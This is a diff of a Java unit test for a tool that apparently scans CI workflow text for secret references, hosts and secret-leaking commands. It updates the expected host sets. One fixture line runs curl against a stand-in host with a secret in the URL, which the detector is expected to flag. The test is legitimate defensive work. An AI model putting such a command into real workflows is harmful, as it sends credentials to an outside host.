@@ -33,7 +33,7 @@ class WorkflowTextTest {
   void saysWhatAWorkflowNames() {
     WorkflowText text = WorkflowText.of(PUBLISH);
     assertEquals(2, text.secretRefs());
-    assertEquals(Set.of("files.example.com"), text.hosts());
+    assertEquals(Set.of("comment.example", "files.example.com"), text.hosts());
     assertEquals(2, text.unpinnedActions());
     assertFalse(text.sendsSecrets(), "the secret goes to twine, and no secret to curl");
   }
@@ -57,7 +57,7 @@ class WorkflowTextTest {
         WorkflowText.of(PUBLISH)
             .and(WorkflowText.of("run: curl https://b.example/${{ secrets.B }}"));
     assertEquals(3, both.secretRefs());
-    assertEquals(Set.of("b.example", "files.example.com"), both.hosts());
+    assertEquals(Set.of("b.example", "comment.example", "files.example.com"), both.hosts());
     assertTrue(both.sendsSecrets());
   }
 
